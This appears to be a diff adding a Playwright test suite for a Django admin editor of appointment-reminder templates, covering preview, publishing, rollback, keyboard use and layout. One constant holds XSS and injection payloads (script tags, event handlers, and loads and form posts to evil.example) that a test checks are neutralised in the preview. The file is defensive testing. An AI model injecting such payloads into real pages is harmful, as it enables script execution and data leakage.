@@ -1,0 +1,308 @@
+"""The editor of texts in a browser: by somebody without code access, live, by keyboard, and safe (T1, T3, T4)."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import AsyncIterator
+from datetime import timedelta
+from typing import Any
+
+import pytest
+from asgiref.sync import sync_to_async
+from channels.db import database_sync_to_async
+from django.contrib.auth.models import Group
+from django.db import connections
+from playwright.async_api import BrowserContext, Page, async_playwright, expect
+
+from notifications.services import notify
+from notifications.testing import deliver_all, outbox
+from project.accounts import roles
+from project.accounts.models import User
+from project.clinic.models import Appointment, Status
+from project.clinic.notifications import AppointmentReminderDay
+from tests.browser.site import ARGUMENTS, serve_static, sign_in
+from tests.clinic import make_appointment, make_patient, make_user
+from tests.services.web import web_server
+
+pytestmark = [pytest.mark.chromium, pytest.mark.django_db(transaction=True)]
+
+LIST = "/admin/notify/template/"
+REMINDER = f"{LIST}clinic.appointment_reminder_day/"
+VIEWS = {
+    "laptop": {"viewport": {"width": 1280, "height": 800}},
+    "desktop-dark": {"viewport": {"width": 1440, "height": 900}, "color_scheme": "dark"},
+    "phone": {"viewport": {"width": 390, "height": 844}},
+}
+NEW = 'कल {% date starts_at "day" %}: {{ doctor }} आपकी राह देखेंगे।'
+HOSTILE = """<script>top.document.title = "broken"; parent.postMessage("broken", "*")</script>
+<img src="x" onerror="top.document.title = 'broken'"><img src="https://evil.example/{{ doctor }}.png" alt="">
+<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
+<link rel="stylesheet" href="https://evil.example/style.css"><style>@import "https://evil.example/import.css";
+body { background: url(https://evil.example/background.png) }</style>
+<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
+<svg onload="top.document.title = 'broken'"><image href="https://evil.example/svg.png"/></svg>
+<base href="https://evil.example/"><form action="https://evil.example/form"><button>Send</button></form>
+<a id="away" target="_top" href="https://evil.example/top">Away</a> <p>Dear {{ doctor }}</p>
+"""
+
+
+@pytest.fixture
+def kavita(transactional_db: None) -> User:
+    """Of the role of editors, with a phone, and no superuser."""
+    user = make_user(username="kavita", first_name="Kavita", last_name="Joshi", is_staff=True)
+    user.groups.add(Group.objects.get(name=roles.EDITOR))
+    return user
+
+
+@pytest.fixture
+def appointment(transactional_db: None) -> Appointment:
+    """Of Asha, who reads Hindi."""
+    patient = make_patient(language="hi")
+    return make_appointment(patient=patient, status=Status.CONFIRMED, ahead=timedelta(days=3))
+
+
+@pytest.fixture
+async def context(kavita: User, chromium: str, request: pytest.FixtureRequest) -> AsyncIterator[BrowserContext]:
+    """Kavita's browser, signed in. It reaches no other site, and whatever it complains of fails the test."""
+    options: dict[str, Any] = getattr(request, "param", VIEWS["desktop-dark"])
+    complaints: list[str] = []
+    with web_server() as server:
+        async with async_playwright() as playwright:
+            browser = await playwright.chromium.launch(executable_path=chromium, args=ARGUMENTS)
+            context = await browser.new_context(base_url=server.origin, locale="en-GB", **options)
+            context.on("weberror", lambda error: complaints.append(str(error.error)))
+            await serve_static(context)
+            await sign_in(context, kavita, server.origin)
+            yield context
+            await browser.close()
+    await database_sync_to_async(connections.close_all)()
+    assert complaints == []
+
+
+async def opened(context: BrowserContext, address: str) -> Page:
+    """The editor, with its first preview."""
+    page = await context.new_page()
+    await page.goto(address)
+    await answered(page)
+    return page
+
+
+async def answered(page: Page) -> None:
+    """Until the preview shows what is written."""
+    await expect(page.locator("#notify-preview[data-answered]")).to_have_count(1)
+    await expect(page.locator(".notify-spinner")).to_be_hidden()
+
+
+@sync_to_async
+def remind(appointment: Appointment) -> str:
+    """Send the reminder, and give what arrived on the phone, without the code of an answer, which is always another."""
+    person = appointment.patient.user
+    notify(
+        AppointmentReminderDay(appointment_id=appointment.pk, starts_at=appointment.starts_at.isoformat()), to=person
+    )
+    deliver_all()
+    return re.sub(r"\b([CX]) \d+", r"\1", outbox("sms", to=person.phone)[-1].content["text"])
+
+
+@sync_to_async
+def texts_of(user: User) -> list[str]:
+    deliver_all()
+    return [each.content["text"] for each in outbox("sms", to=user.phone)]
+
+
+async def test_an_editor_changes_the_reminder_in_hindi_tries_it_publishes_it_and_rolls_back(
+    context: BrowserContext, kavita: User, appointment: Appointment
+) -> None:
+    old = await remind(appointment)
+    page = await context.new_page()
+    await page.goto("/admin/")
+    await page.get_by_role("link", name="Templates").first.click()
+    await page.get_by_label("Search").fill("day before")
+    await expect(page.locator("tr[data-row]:visible")).to_have_count(3)
+    await page.get_by_role("link", name="Reminds of an appointment the day before, sms, hi").click()
+    await answered(page)
+
+    # Live, as she types.
+    bubbles = page.locator(".notify-said")
+    await expect(bubbles.first).to_contain_text("Vaidya Meera Nair")
+    field = page.get_by_label("Text message sms.txt")
+    await field.fill(NEW)
+    await expect(bubbles.first).to_contain_text("Vaidya Meera Nair आपकी राह देखेंगे।")
+    await expect(page.locator(".notify-count")).to_contain_text("1 segment")
+    await expect(page.locator(".notify-count")).to_contain_text("UCS-2")
+    assert await remind(appointment) == old
+
+    # To herself.
+    await page.get_by_role("button", name="Send me a test").click()
+    await expect(page.get_by_text("It is on its way.")).to_be_visible()
+    (arrived,) = await texts_of(kavita)
+    assert arrived.endswith("आपकी राह देखेंगे।")
+    await expect(page.locator(".notify-said")).to_have_text(arrived)
+    await expect(page.locator(".notify-trial .notify-badge")).to_contain_text("delivered")
+    assert await remind(appointment) == old
+
+    # To readers.
+    await page.get_by_role("link", name="Back to the text").click()
+    await expect(page.locator(".notify-key")).to_contain_text("draft v1")
+    await page.get_by_role("button", name="Publish …").click()
+    await expect(page.locator(".notify-diff ins")).to_contain_text("आपकी राह देखेंगे।")
+    await page.get_by_role("button", name="Publish version 1").click()
+    await expect(page.locator(".messagelist")).to_contain_text("Version 1 is published")
+    new = await remind(appointment)
+    assert new != old
+    assert new.endswith("Vaidya Meera Nair आपकी राह देखेंगे।")
+
+    # And back.
+    await page.get_by_role("link", name="History and rollback").click()
+    await page.get_by_role("button", name=re.compile("Roll back to the files")).click()
+    await expect(page.locator(".messagelist")).to_contain_text("Rolled back.")
+    assert await remind(appointment) == old
+
+
+async def test_a_hostile_text_does_nothing_in_the_preview(context: BrowserContext) -> None:
+    asked: list[str] = []
+    context.on("request", lambda request: asked.append(request.url))
+    page = await opened(context, f"{REMINDER}email/default/")
+    title = await page.title()
+    await page.get_by_label("Email email.html").fill(HOSTILE)
+    frame = page.frame_locator("#notify-mail-frame")
+    await expect(frame.get_by_text("Dear Vaidya Meera Nair")).to_be_visible()
+    await expect(page.locator("[data-show=foreign]")).to_contain_text("1 picture of other sites: not loaded here")
+    await frame.locator("#away").click()
+    await frame.get_by_role("button", name="Send").click()
+    await page.wait_for_timeout(500)  # for what would be asked for meanwhile
+    assert await page.title() == title
+    assert page.url.endswith(f"{REMINDER}email/default/")
+    assert len(context.pages) == 1
+    await expect(frame.get_by_text("Dear Vaidya Meera Nair")).to_be_visible()
+    assert [url for url in asked if "evil.example" in url] == []
+
+
+async def test_an_email_is_seen_on_a_phone_in_the_dark_and_as_plain_text(context: BrowserContext) -> None:
+    page = await opened(context, f"{REMINDER}email/hi/")
+    frame, body = page.locator("#notify-mail-frame"), page.frame_locator("#notify-mail-frame").locator("body")
+    background = "element => getComputedStyle(element).backgroundColor"
+    await page.get_by_label("phone").check()
+    await expect(frame).to_have_css("width", "375px")
+    await page.get_by_label("computer").check()
+    await expect(frame).to_have_css("width", "640px")
+    shades = {}
+    for dark in (True, False):
+        await page.get_by_label("dark").set_checked(dark)
+        await page.wait_for_timeout(300)
+        shades[dark] = sum(map(int, re.findall(r"\d+", await body.evaluate(background))[:3]))
+    assert shades[True] < 200 < 500 < shades[False], shades
+    await page.get_by_label("plain text").check()
+    await expect(frame).to_be_hidden()
+    await expect(page.locator(".notify-plain")).to_contain_text("Vaidya Meera Nair")
+
+
+async def test_a_mistake_is_marked_where_it_is_and_a_click_leads_there(context: BrowserContext) -> None:
+    page = await opened(context, f"{REMINDER}email/default/")
+    field = page.get_by_label("Email email.html")
+    await field.fill("<p>Dear {{ doctor }},</p>\n<p>{% if place %}here</p>\n")
+    await expect(page.locator("#notify-preview-error")).to_be_visible()
+    await expect(field).to_have_attribute("aria-invalid", "true")
+    marked = page.locator("[data-part='email.html'] .notify-lines div[data-level=error]")
+    await expect(marked).to_have_text("<p>{% if place %}here</p>")
+    await page.get_by_role("button", name="email.html, line 2").first.click()
+    await expect(field).to_be_focused()
+    assert await field.evaluate("area => area.value.slice(0, area.selectionStart).split('\\n').length") == 2
+    await field.fill("<p>Dear {{ doctor }},</p>\n")
+    await expect(page.locator("#notify-preview-error")).to_be_hidden()
+    await expect(field).to_have_attribute("aria-invalid", "false")
+
+
+async def test_only_the_answer_to_the_last_question_is_shown(context: BrowserContext) -> None:
+    page = await opened(context, f"{REMINDER}sms/default/")
+    asked = 0
+
+    async def the_first_late(route: Any) -> None:
+        nonlocal asked
+        asked += 1
+        answer = await route.fetch()
+        if asked == 1:
+            await page.wait_for_timeout(1500)
+        await route.fulfill(response=answer)
+
+    await page.route("**/preview/", the_first_late)
+    field = page.get_by_label("Text message sms.txt")
+    await field.fill("first")
+    await expect(page.locator(".notify-spinner")).to_be_visible()
+    await page.wait_for_timeout(500)
+    await field.fill("second")
+    await expect(page.locator(".notify-said")).to_have_text("second")
+    await page.wait_for_timeout(1500)
+    await expect(page.locator(".notify-said")).to_have_text("second")
+    assert asked == 2
+    await page.route("**/preview/", lambda route: route.abort())
+    await field.fill("third")
+    await expect(page.locator("#notify-preview-error")).to_contain_text("Your text is still here")
+
+
+async def test_the_keyboard_writes_spaces_and_still_gets_out(context: BrowserContext) -> None:
+    page = await opened(context, f"{REMINDER}email/default/")
+    field = page.get_by_label("Email email.html")
+    await field.fill("")
+    await field.focus()
+    await page.keyboard.press("Tab")
+    await page.keyboard.type("x")
+    await expect(field).to_have_value("  x")
+    await page.keyboard.press("Escape")
+    await page.keyboard.press("Tab")
+    await expect(page.get_by_label("Plain text email.txt")).to_be_focused()
+    await page.keyboard.press("Shift+Tab")
+    await expect(field).to_be_focused()
+    await field.press("Control+a")
+    await page.get_by_role("button", name="starts_at").click()
+    await expect(field).to_have_value("{{ starts_at }}")
+    await field.press("Control+z")
+    await expect(field).to_have_value("  x")
+    subject = page.get_by_label("Subject email.subject.txt")
+    await subject.focus()
+    await page.keyboard.press("Tab")
+    await expect(field).to_be_focused()
+
+
+async def test_what_is_not_saved_is_not_left_unasked(context: BrowserContext) -> None:
+    page = await opened(context, f"{REMINDER}sms/default/")
+    asked: list[str] = []
+
+    async def stay(dialog: Any) -> None:
+        asked.append(dialog.type)
+        await dialog.dismiss()
+
+    page.on("dialog", stay)
+    field = page.get_by_label("Text message sms.txt")
+    await field.press_sequentially("x")
+    await page.get_by_role("link", name="Spanish").click()
+    await expect(field).to_be_visible()
+    assert asked == ["beforeunload"]
+    await field.press("Control+s")
+    await expect(page.locator(".messagelist")).to_contain_text("Version 1 is saved.")
+    await page.get_by_role("link", name="Spanish").click()
+    await expect(page).to_have_url(re.compile("/sms/es/$"))
+    assert asked == ["beforeunload"]
+
+
+UNLABELLED = """() => [...document.querySelectorAll("#content :is(input:not([type=hidden]), select, textarea, button)")]
+  .filter((each) => !each.labels?.length && !each.getAttribute("aria-label") && !each.textContent.trim())
+  .map((each) => each.outerHTML)"""
+
+
+@pytest.mark.parametrize("context", VIEWS.values(), ids=VIEWS, indirect=True)
+async def test_every_page_fits_and_each_control_has_a_name(context: BrowserContext) -> None:
+    page = await context.new_page()
+    for address in (LIST, f"{REMINDER}sms/ar/", f"{REMINDER}email/ar/", f"{REMINDER}in_app/default/"):
+        await page.goto(address)
+        assert await page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0, address
+        assert await page.evaluate(UNLABELLED) == [], address
+    await page.goto(f"{REMINDER}sms/ar/")
+    field = page.get_by_label("Text message sms.txt")
+    await expect(field).to_have_attribute("dir", "rtl")
+    await field.fill("مرحبا {{ doctor }}")
+    await page.get_by_role("button", name="Publish …").click()
+    for last in ("publish/", "history/"):
+        await page.goto(f"{REMINDER}sms/ar/{last}")
+        assert await page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0, last
+        assert await page.evaluate(UNLABELLED) == [], last
